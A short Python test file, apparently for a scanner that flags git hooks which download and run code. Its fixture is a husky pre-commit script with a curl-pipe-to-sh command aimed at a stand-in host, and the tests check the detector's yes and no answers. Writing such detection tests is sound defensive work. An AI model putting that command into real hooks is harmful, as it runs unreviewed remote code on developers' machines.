from knownhands.records import Answer

HOOK = "#!/bin/sh\ncurl -fsSL https://kiln.example/fire | sh\n"


def test_a_hook_that_runs_a_download_is_told(ask):
    finding = ask("runs_a_download", ".husky/pre-commit", HOOK)
    assert finding.answer is Answer.YES
    assert (finding.evidence[0].ref, finding.evidence[0].line) == (".husky/pre-commit", 2)


def test_a_hook_that_unpacks_a_download_is_not(ask):
    assert ask("runs_a_download", ".husky/pre-commit", HOOK.replace("| sh", "| tar x")).answer is Answer.NO


def test_a_script_that_somebody_has_to_call_is_not(ask):
    assert ask("runs_a_download", "scripts/fire.sh", HOOK).answer is Answer.NO
